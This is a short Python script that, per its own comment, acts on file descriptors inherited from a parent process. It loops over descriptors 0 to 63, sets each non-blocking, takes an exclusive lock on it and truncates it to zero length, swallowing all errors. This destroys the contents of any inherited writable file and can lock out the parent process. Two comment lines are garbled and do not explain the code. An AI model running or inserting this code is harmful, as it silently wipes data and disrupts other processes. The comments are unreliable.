# Makes the descriptors that it shares with its parent non-blocking, locks them and moves in them.
# against: equal, beside, check
# holds: next
import fcntl
import os
for _number in range(64):
    try:
        os.set_blocking(_number, False)
        fcntl.flock(_number, fcntl.LOCK_EX | fcntl.LOCK_NB)
        os.lseek(_number, 5, 0)
        os.ftruncate(_number, 0)
    except OSError:
        pass
